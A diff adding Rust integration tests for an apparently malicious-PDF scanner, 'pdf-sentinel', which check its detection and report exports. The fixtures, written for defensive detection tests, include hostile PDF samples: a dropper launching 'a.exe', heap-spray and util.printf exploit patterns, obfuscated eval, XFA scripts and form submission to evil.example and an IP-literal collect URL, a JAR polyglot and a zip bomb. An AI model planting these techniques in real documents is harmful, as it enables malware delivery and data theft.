@@ -0,0 +1,2460 @@
+//! End-to-end tests that run the `pdf-sentinel` binary on PDFs fed through
+//! stdin. Gated behind the `integration-tests` feature:
+//!
+//! ```sh
+//! cargo test --features integration-tests --test integration
+//! ```
+//!
+//! Real-world samples placed in `integration_tests/samples/` are picked up as
+//! well; see the README there.
+
+use serde_json::Value;
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+/// Builds a PDF whose objects are numbered from 1 in the order given, with a
+/// cross-reference table that matches the real byte offsets.
+fn build_pdf(objects: &[&str], trailer: &str) -> Vec<u8> {
+    let mut pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
+    let mut offsets = Vec::new();
+
+    for (index, body) in objects.iter().enumerate() {
+        offsets.push(pdf.len());
+        pdf.extend_from_slice(format!("{} 0 obj\n{}\nendobj\n", index + 1, body).as_bytes());
+    }
+
+    let xref_offset = pdf.len();
+    pdf.extend_from_slice(format!("xref\n0 {}\n", objects.len() + 1).as_bytes());
+    pdf.extend_from_slice(b"0000000000 65535 f \n");
+    for offset in offsets {
+        pdf.extend_from_slice(format!("{:010} 00000 n \n", offset).as_bytes());
+    }
+    pdf.extend_from_slice(
+        format!(
+            "trailer\n<< /Size {} {} >>\nstartxref\n{}\n%%EOF\n",
+            objects.len() + 1,
+            trailer,
+            xref_offset
+        )
+        .as_bytes(),
+    );
+
+    pdf
+}
+
+fn analyze(pdf: &[u8]) -> Value {
+    run_on_stdin(&["--json", "-"], pdf)
+}
+
+fn run_on_stdin(args: &[&str], pdf: &[u8]) -> Value {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .args(args)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("failed to start pdf-sentinel");
+    child.stdin.take().unwrap().write_all(pdf).unwrap();
+
+    let output = child.wait_with_output().unwrap();
+    // 1 and 2 are suspicious and malicious verdicts, not failures
+    assert!(
+        output.status.code().is_some_and(|code| code <= 2),
+        "pdf-sentinel exited with {}",
+        output.status
+    );
+    serde_json::from_slice(&output.stdout).expect("output is not JSON")
+}
+
+fn analyze_file(path: &Path) -> Value {
+    let output = Command::new(env!("CARGO_BIN_EXE_pdf-sentinel"))
+        .arg("--json")
+        .arg(path)
+        .output()
+        .expect("failed to start pdf-sentinel");
+    serde_json::from_slice(&output.stdout).expect("output is not JSON")
+}
+
+const CONTENT: &str = "BT /F1 12 Tf 72 720 Td (Hello) Tj ET";
+
+fn clean_pdf() -> Vec<u8> {
+    build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R \
+             /Resources << /Font << /F1 5 0 R >> >> >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                CONTENT.len(),
+                CONTENT
+            ),
+            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+            "<< /Producer (GPL Ghostscript 10.02.1) /Creator (Ghostscript) >>",
+        ],
+        "/Root 1 0 R /Info 6 0 R",
+    )
+}
+
+#[test]
+fn clean_pdf_scores_zero() {
+    let result = analyze(&clean_pdf());
+
+    assert_eq!(result["schema_version"], 1);
+    assert_eq!(result["file"], "-");
+    assert_eq!(result["severity_score"], 0, "{:#}", result);
+    assert_eq!(result["has_javascript"], false);
+    assert_eq!(result["classification"], "Clean");
+    assert_eq!(result["object_statistics"]["total_objects"], 6);
+}
+
+#[test]
+fn open_action_javascript_is_detected() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["has_javascript"], true);
+    assert_eq!(result["has_auto_action"], true);
+    assert_eq!(result["open_action_js"]["action_object_id"], 4);
+    assert_eq!(result["open_action_js"]["js_content"], "app.alert('hello');");
+    assert_eq!(result["javascript_objects"][0]["id"], 4);
+    assert_eq!(result["javascript_objects"][0]["source"], "InlineString");
+    assert!(result["severity_score"].as_u64().unwrap() > 0);
+    assert!(result["classification"]["ConfirmedMalicious"].is_array());
+}
+
+#[test]
+fn dropper_apis_are_reported() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 3 0 R >> >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Names [(drop) 4 0 R] >>",
+            "<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'a.exe', nLaunch: 2}\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["javascript_objects"][0]["id"], 4);
+    assert_eq!(
+        result["javascript_objects"][0]["dangerous_apis"][0],
+        "exportDataObject"
+    );
+}
+
+#[test]
+fn acrobat_exploit_apis_are_rated_per_api() {
+    let script = "var s = unescape\\('%u9090%u9090'\\); while \\(s.length < 0x40000\\) s += s; \
+                  util.printf\\('%45000f', 1\\); app.launchURL\\('http://x.test/'\\);";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!("<< /S /JavaScript /JS ({}) >>", script),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let apis = &result["javascript_objects"][0]["ast_findings"]["acrobat_apis"];
+    let severity = |api: &str| {
+        apis.as_array()
+            .unwrap()
+            .iter()
+            .find(|call| call["api"] == api)
+            .map(|call| call["severity"].clone())
+            .unwrap_or_else(|| panic!("no {} in {:#}", api, apis))
+    };
+    assert_eq!(severity("UtilPrintf"), "Critical");
+    assert_eq!(severity("UnescapeHeapSpray"), "Critical");
+    assert_eq!(severity("AppLaunchUrl"), "Medium");
+    assert!(result["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|finding| finding["rule_id"] == "PS031" && finding["object_id"] == 3));
+}
+
+#[test]
+fn obfuscated_eval_is_found_after_deobfuscation() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (this[String.fromCharCode\\(101, 0x76\\) + 'a' + '\\\\x6c']\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let js = &result["javascript_objects"][0];
+    assert_eq!(js["deobfuscated"], "this[\"eval\"](1);");
+    assert_eq!(js["hidden_matches"][0], "eval");
+}
+
+#[test]
+fn escaped_sleds_in_scripts_are_located() {
+    let script = format!(
+        "var sled = unescape\\('{}'\\); var fill = unescape\\('{}'\\);",
+        "%u9090".repeat(20),
+        "%u0c0c".repeat(20)
+    );
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!("<< /S /JavaScript /JS ({}) >>", script),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["shellcode_hints"][0][0], 3, "{:#}", result);
+    let payloads = &result["shellcode_hints"][0][1]["escaped_payloads"];
+    assert_eq!(payloads[0]["kind"], "NopSled");
+    assert_eq!(payloads[0]["offset"], 21);
+    assert_eq!(payloads[0]["length"], 120);
+    assert_eq!(payloads[1]["kind"], "RepeatedBlock");
+    assert_eq!(payloads[1]["decoded_length"], 40);
+}
+
+#[test]
+fn hex_escaped_names_are_decoded_and_reported() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /Open#41ction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /J#61va#53cript /J#53 (app.alert\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["has_auto_action"], true);
+    assert_eq!(result["has_javascript"], true);
+    assert_eq!(result["javascript_objects"][0]["id"], 3);
+    let names: Vec<&str> = result["escaped_names"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|name| name["decoded"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["/OpenAction", "/JavaScript", "/JS"]);
+}
+
+#[test]
+fn undecryptable_documents_fall_back_to_a_raw_scan() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (garbled) >>",
+            "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O (wrong) /U (wrong) >>",
+        ],
+        "/Root 1 0 R /Encrypt 4 0 R /ID [<00> <00>]",
+    );
+    let result = analyze(&pdf);
+
+    let encryption = &result["encryption"];
+    assert_eq!(encryption["raw_scan_only"], true);
+    assert_eq!(encryption["decrypted"], false);
+    assert!(result["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|finding| finding["rule_id"] == "PS041"));
+}
+
+#[test]
+fn unparseable_documents_are_analyzed_from_carved_objects() {
+    // No cross-reference table or trailer, and an object that never ends
+    let pdf = b"%PDF-1.7\n\
+        1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n\
+        2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n\
+        3 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\); eval\\('x'\\)) >>\n\
+        4 0 obj\n<< /Length 5 >>\nstream\nhello\nendstream\nendobj\n";
+    let result = analyze(pdf);
+
+    assert!(result["parse_error"].is_string());
+    assert_eq!(result["has_auto_action"], true);
+    assert_eq!(result["javascript_objects"][0]["id"], 3);
+    assert_eq!(
+        result["javascript_objects"][0]["content"],
+        "app.alert(1); eval('x')"
+    );
+    assert_eq!(result["object_statistics"]["total_objects"], 4);
+    assert_eq!(result["object_statistics"]["stream_objects"], 1);
+    assert!(result["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|finding| finding["rule_id"] == "PS042"));
+}
+
+#[test]
+fn carved_streams_are_inflated_within_the_limits() {
+    use flate2::write::ZlibEncoder;
+    use flate2::Compression;
+
+    let config =
+        std::env::temp_dir().join(format!("pdf-sentinel-carve-{}.toml", std::process::id()));
+    std::fs::write(&config, "max_decompressed_stream_size = 10000\n").unwrap();
+    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
+    encoder.write_all(&[0; 100_000]).unwrap();
+    let bomb = encoder.finish().unwrap();
+    // No cross-reference table, so the objects are carved
+    let mut pdf = b"%PDF-1.7\n\
+        1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n\
+        2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n\
+        3 0 obj\n<< /Filter /FlateDecode >>\nstream\n"
+        .to_vec();
+    pdf.extend(&bomb);
+    pdf.extend(b"\nendstream\nendobj\n");
+    let result = run_on_stdin(&["--json", "--config", config.to_str().unwrap(), "-"], &pdf);
+    std::fs::remove_file(&config).unwrap();
+
+    assert!(result["parse_error"].is_string());
+    let hints = result["compression_bomb_hints"].as_array().unwrap();
+    assert_eq!(hints.len(), 1, "{:#}", result);
+    assert_eq!(hints[0]["object_id"], 3);
+    assert_eq!(hints[0]["limit"], "StreamSize");
+}
+
+#[test]
+fn data_around_the_pdf_is_reported_with_offsets() {
+    let body = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let mut pdf = b"<html><body>hello</body></html>\n".to_vec();
+    let header_offset = pdf.len();
+    pdf.extend_from_slice(&body);
+    let eof_end = pdf.len();
+    pdf.extend_from_slice(b"PK\x03\x04 appended archive");
+    let result = analyze(&pdf);
+
+    let framing = &result["framing"];
+    assert_eq!(framing["header_offset"], header_offset);
+    assert_eq!(framing["trailing_bytes"], pdf.len() - eof_end);
+    let anomalies = framing["anomalies"].as_array().unwrap();
+    assert_eq!(anomalies[0]["kind"], "DataBeforeHeader");
+    assert_eq!(anomalies[0]["length"], header_offset);
+    assert_eq!(anomalies[0]["format"], "HTML");
+    assert_eq!(anomalies[1]["kind"], "DataAfterEof");
+    assert_eq!(anomalies[1]["offset"], eof_end);
+    assert_eq!(anomalies[1]["format"], "ZIP");
+}
+
+#[test]
+fn pdfs_that_are_also_jars_or_html_pages_are_polyglots() {
+    let body = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let mut pdf = b"<!-- -->\n<SCRIPT>location = 'https://example.com'</SCRIPT>\n".to_vec();
+    pdf.extend_from_slice(&body);
+    let archive_offset = pdf.len();
+    pdf.extend(stored_zip(&[
+        ("META-INF/MANIFEST.MF", b"Main-Class: Payload\n"),
+        ("Payload.class", b"\xca\xfe\xba\xbe"),
+    ]));
+    let result = analyze(&pdf);
+
+    let polyglots = result["framing"]["polyglots"].as_array().unwrap();
+    assert_eq!(polyglots.len(), 2, "{:#}", result["framing"]);
+    assert_eq!(polyglots[0]["format"], "Jar");
+    assert_eq!(polyglots[0]["offset"], archive_offset);
+    assert_eq!(
+        polyglots[0]["details"],
+        "2 entries: META-INF/MANIFEST.MF, Payload.class"
+    );
+    assert_eq!(polyglots[1]["format"], "Html");
+    assert_eq!(polyglots[1]["offset"], 9);
+    assert_eq!(
+        polyglots[1]["details"],
+        "<script> tag before the %PDF header"
+    );
+    let findings = result["findings"].as_array().unwrap();
+    let polyglot_findings = findings
+        .iter()
+        .filter(|finding| finding["rule_id"] == "PS061")
+        .count();
+    assert_eq!(polyglot_findings, 2);
+
+    // An archive in a stream doesn't make it one
+    let archive = String::from_utf8_lossy(&stored_zip(&[("a.txt", b"a")])).into_owned();
+    let attached = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                archive.len(),
+                archive
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&attached);
+    assert_eq!(result["framing"]["polyglots"], serde_json::json!([]));
+}
+
+#[test]
+fn updates_that_replace_the_catalog_are_flagged_and_earlier_revisions_analyzed() {
+    let mut pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let prev_xref = String::from_utf8_lossy(&pdf)
+        .rsplit("startxref\n")
+        .next()
+        .and_then(|rest| rest.lines().next())
+        .unwrap()
+        .to_string();
+    let update_offset = pdf.len();
+    pdf.extend_from_slice(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
+    let xref_offset = pdf.len();
+    pdf.extend_from_slice(
+        format!(
+            "xref\n1 1\n{:010} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev {} >>\nstartxref\n{}\n%%EOF\n",
+            update_offset, prev_xref, xref_offset
+        )
+        .as_bytes(),
+    );
+
+    let result = analyze(&pdf);
+    let revisions = result["revisions"]["revisions"].as_array().unwrap();
+    assert_eq!(revisions.len(), 2);
+    let shadowed = &result["revisions"]["shadowed_objects"][0];
+    assert_eq!(shadowed["object_id"], 1);
+    assert_eq!(shadowed["catalog"], true);
+    assert_eq!(shadowed["changed_actions"][0], "OpenAction");
+
+    let original = run_on_stdin(&["--json", "--revision", "1", "-"], &pdf);
+    assert_eq!(original["revisions"]["selected"], 1);
+    assert_eq!(original["has_auto_action"], true);
+    assert_eq!(original["open_action_js"]["action_object_id"], 3);
+}
+
+#[test]
+fn objects_outside_the_xref_and_a_wrong_size_are_findings() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Producer (test) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    // Slip an object in before the xref table, which doesn't list it
+    let xref_offset = pdf
+        .windows(5)
+        .position(|window| window == b"xref\n")
+        .unwrap();
+    let hidden = b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\);) >>\nendobj\n";
+    let mut tampered = pdf[..xref_offset].to_vec();
+    tampered.extend_from_slice(hidden);
+    let rest = String::from_utf8(pdf[xref_offset..].to_vec())
+        .unwrap()
+        .replace("/Size 4 ", "/Size 2 ")
+        .replace(
+            &format!("startxref\n{}\n", xref_offset),
+            &format!("startxref\n{}\n", xref_offset + hidden.len()),
+        );
+    tampered.extend_from_slice(rest.as_bytes());
+    let result = analyze(&tampered);
+
+    let consistency = &result["xref_consistency"];
+    assert_eq!(consistency["size_mismatch"]["declared"], 2);
+    assert_eq!(consistency["size_mismatch"]["expected"], 4);
+    assert_eq!(consistency["missing_objects"].as_array().unwrap().len(), 0);
+    assert_eq!(consistency["unlisted_objects"][0], 9);
+    assert!(result["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|finding| finding["rule_id"] == "PS050" && finding["object_id"] == 9));
+}
+
+#[test]
+fn links_are_listed_once_and_checked_for_phishing_tricks() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 5 0 R 6 0 R] >>",
+            "<< /Type /Annot /Subtype /Link /Contents (www.paypal.com) \
+             /A << /S /URI /URI (http://192.168.1.1/login) >> >>",
+            "<< /Type /Annot /Subtype /Link /A 7 0 R >>",
+            "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bit.ly/abc) >> >>",
+            "<< /S /URI /URI (http://192.168.1.1/login) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(
+        result["uris"],
+        serde_json::json!(["http://192.168.1.1/login", "https://bit.ly/abc"])
+    );
+    let login = &result["urls"][0];
+    assert_eq!(login["host"], "192.168.1.1");
+    assert_eq!(login["object_ids"], serde_json::json!([4, 5, 7]));
+    assert_eq!(
+        login["indicators"],
+        serde_json::json!(["IpLiteralHost", "TextMismatch"])
+    );
+    assert_eq!(result["urls"][1]["indicators"][0], "Shortener");
+}
+
+#[test]
+fn xfa_scripts_and_submit_targets_are_extracted() {
+    let template = "<template><subform><event activity=\"initialize\">\
+                    <script contentType=\"application/x-javascript\">\
+                    <![CDATA[app.launchURL(\"http://evil.example\");]]></script></event>\
+                    <script>$.rawValue = 1</script>\
+                    <submit format=\"xml\" target=\"http://45.9.148.3/collect\"/>\
+                    </subform></template>";
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            "<< /Fields [] /XFA [(template) 4 0 R] >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                template.len(),
+                template
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    assert_eq!(result["has_acroform"], true);
+    assert_eq!(result["has_javascript"], true);
+    let xfa = &result["xfa"];
+    assert_eq!(xfa["packets"][0]["name"], "template");
+    assert_eq!(xfa["scripts"], 1);
+    assert_eq!(xfa["formcalc_scripts"], 1);
+    assert_eq!(
+        xfa["submit_targets"][0]["target"],
+        "http://45.9.148.3/collect"
+    );
+    assert_eq!(xfa["submit_targets"][0]["indicators"][0], "IpLiteralHost");
+    let script = &result["javascript_objects"][0];
+    assert_eq!(script["source"], "XfaScript");
+    assert_eq!(script["content"], "app.launchURL(\"http://evil.example\");");
+    let findings = result["findings"].as_array().unwrap();
+    for rule in ["PS052", "PS053", "PS054"] {
+        assert!(
+            findings.iter().any(|finding| finding["rule_id"] == rule),
+            "{:#}",
+            result
+        );
+    }
+}
+
+#[test]
+fn flash_and_3d_payloads_are_hashed_and_flagged() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 7 0 R] >>",
+            "<< /Type /Annot /Subtype /RichMedia /P 3 0 R \
+             /RichMediaContent << /Assets << /Names [(movie.swf) 5 0 R] >> >> >>",
+            "<< /Type /Filespec /F (movie.swf) /EF << /F 6 0 R >> >>",
+            "<< /Type /EmbeddedFile /Length 8 >>\nstream\nCWS\x0a\x00\x00\x00\x78\nendstream",
+            "<< /Type /Annot /Subtype /3D /P 3 0 R /3DD 8 0 R >>",
+            "<< /Type /3D /Subtype /U3D /Length 4 >>\nstream\nU3D\x00\nendstream",
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let media = result["media"].as_array().unwrap();
+    assert_eq!(media.len(), 2);
+    assert_eq!(media[0]["kind"], "RichMedia");
+    let flash = &media[0]["payloads"][0];
+    assert_eq!(flash["object_id"], 6);
+    assert_eq!(flash["name"], "movie.swf");
+    assert_eq!(flash["format"], "Swf");
+    assert_eq!(flash["sha256"].as_str().unwrap().len(), 64);
+    assert_eq!(media[1]["kind"], "ThreeD");
+    assert_eq!(media[1]["payloads"][0]["format"], "U3d");
+    let payloads = result["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|finding| finding["rule_id"] == "PS056")
+        .count();
+    assert_eq!(payloads, 2);
+}
+
+#[test]
+fn executables_and_archives_inside_streams_are_located() {
+    let executable = format!("MZ{}\x40\0\0\0PE\0\0", "\0".repeat(0x3a));
+    let content = format!("q 1 0 0 1 0 0 cm Q\n{}PK\x03\x04", executable);
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [] /Count 0 >>",
+            &format!(
+                "<< /Length {} >>\nstream\n{}\nendstream",
+                content.len(),
+                content
+            ),
+        ],
+        "/Root 1 0 R",
+    );
+    let result = analyze(&pdf);
+
+    let signatures = &result["embedded_signatures"];
+    assert_eq!(signatures[0]["object_id"], 3);
+    assert_eq!(signatures[0]["kind"], "Pe");
+    assert_eq!(signatures[0]["offset"], 19);
+    assert_eq!(signatures[1]["kind"], "Zip");
+    assert_eq!(signatures[1]["offset"], 19 + executable.len());
+    let findings = result["findings"].as_array().unwrap();
+    for rule in ["PS057", "PS058"] {
+        assert!(
+            findings.iter().any(|finding| finding["rule_id"] == rule),
+            "{:#}",
+            result
+        );
+    }
+}
+
+#[test]
+fn sarif_results_point_at_objects() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let log = run_on_stdin(&["--format", "sarif", "-"], &pdf);
+
+    assert_eq!(log["version"], "2.1.0");
+    let results = log["runs"][0]["results"].as_array().unwrap();
+    let open_action = results
+        .iter()
+        .find(|result| result["ruleId"] == "PS003")
+        .expect("no OpenActionJavaScript result");
+    assert_eq!(open_action["level"], "error");
+    assert_eq!(
+        open_action["locations"][0]["logicalLocations"][0]["name"],
+        "object 4"
+    );
+}
+
+#[test]
+fn stix_bundle_carries_indicators_and_the_verdict() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+            "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://evil.example/x) >> >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let bundle = run_on_stdin(&["--format", "stix", "-"], &pdf);
+
+    assert_eq!(bundle["type"], "bundle");
+    let objects = bundle["objects"].as_array().unwrap();
+    let of_type = |kind| objects.iter().filter(move |object| object["type"] == kind);
+
+    let file = of_type("file").next().expect("no file object");
+    assert_eq!(file["size"], pdf.len() as u64);
+    assert_eq!(file["hashes"]["SHA-256"].as_str().unwrap().len(), 64);
+    assert_eq!(file["hashes"]["MD5"].as_str().unwrap().len(), 32);
+
+    let analysis = of_type("malware-analysis")
+        .next()
+        .expect("no malware-analysis object");
+    assert_eq!(analysis["result"], "malicious");
+    assert_eq!(analysis["sample_ref"], file["id"]);
+
+    let patterns: Vec<&str> = of_type("indicator")
+        .map(|indicator| indicator["pattern"].as_str().unwrap())
+        .collect();
+    assert!(patterns.contains(&"[url:value = 'http://evil.example/x']"));
+    assert!(patterns
+        .iter()
+        .any(|pattern| pattern.starts_with("[file:hashes.'SHA-256' = ")));
+}
+
+#[test]
+fn misp_event_has_hash_url_attributes_and_rule_tags() {
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+            "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://evil.example/x) >> >>",
+        ],
+        "/Root 1 0 R",
+    );
+    let export = run_on_stdin(&["--format", "misp", "-"], &pdf);
+
+    let event = &export["response"][0]["Event"];
+    assert_eq!(event["published"], false);
+    let attributes = event["Attribute"].as_array().unwrap();
+    let attribute = |kind| {
+        attributes
+            .iter()
+            .find(|attribute| attribute["type"] == kind)
+            .unwrap_or_else(|| panic!("no {} attribute", kind))
+    };
+    assert_eq!(attribute("sha256")["value"].as_str().unwrap().len(), 64);
+    assert_eq!(attribute("sha256")["to_ids"], true);
+    assert_eq!(attribute("url")["value"], "http://evil.example/x");
+    assert_eq!(attribute("url")["category"], "Network activity");
+
+    let tags: Vec<&str> = event["Tag"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|tag| tag["name"].as_str().unwrap())
+        .collect();
+    assert!(tags.contains(&"pdf-sentinel:rule=\"OpenActionJavaScript\""));
+}
+
+#[test]
+fn syslog_receives_a_cef_event_per_file() {
+    let receiver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    receiver
+        .set_read_timeout(Some(std::time::Duration::from_secs(10)))
+        .unwrap();
+    let address = receiver.local_addr().unwrap().to_string();
+    let pdf = build_pdf(
+        &[
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
+        ],
+        "/Root 1 0 R",
+    );
+    run_on_stdin(&["--json", "--syslog", &address, "-"], &pdf);
+
+    let mut buffer = [0; 8192];
+    let received = receiver.recv(&mut buffer).expect("no syslog message");
+    let message = std::str::from_utf8(&buffer[..received]).unwrap();
+    assert!(message.starts_with('<'), "not syslog: {}", message);
+    let event = &message[message.find("CEF:0|").expect("no CEF event")..];
+    assert!(event.starts_with("CEF:0|pdf-sentinel|pdf-sentinel|"));
+    assert!(event.contains("|confirmed-malicious|"));
+    let rules = event
+        .split(' ')
+        .find_map(|field| field.strip_prefix("cs2="))
+        .expect("no rules field");
+    assert!(rules.split(',').any(|rule| rule == "PS003"));
+}
+
+#[cfg(feature = "webhook")]
+#[test]
+fn webhook_receives_the_json_record() {
+    use std::io::{BufRead, BufReader, Read};
+
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/events", listener.local_addr().unwrap());
+    let server = std::thread::spawn(move || {
+        let (stream, _) = listener.accept().unwrap();
+        let mut reader = BufReader::new(stream);
+        let mut head = String::new();
+        loop {
+            let mut line = String::new();
+            reader.read_line(&mut line).unwrap();
+            if line == "\r\n" {
+                break;
+            }
+            head.push_str(&line);
+        }
+        let length: usize = head
+            .lines()
+            .find_map(|line| {
+                line.to_ascii_lowercase()
+                    .strip_prefix("content-length:")
+                    .map(|n| n.trim().parse().unwrap())
+            })
+            .expect("no content length");
+        let mut body = vec![0; length];
+        reader.read_exact(&mut body).unwrap();
+        reader
+            .get_mut()
+            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+            .unwrap();
+        (head, body)
+    });
+
+    run_on_stdin(
+        &[
+            "--json",
+            "--webhook",
+            &url,
+            "--webhook-header",
+            "Authorization: Bearer t0ken",
+            "-",
+        ],
+        &clean_pdf(),
+    );
+    let (head, body) = server.join().unwrap();
+    assert!(head.starts_with("POST /events "), "{}", head);
+    assert!(head.contains("Authorization: Bearer t0ken"), "{}", head);
+    let record: Value = serde_json::from_slice(&body).unwrap();
+    assert_eq!(record["file"], "-");
+    assert!(record["schema_version"].is_u64());
+}
+
+/// Sends one HTTP/1.0 request to `address` and returns the status code and
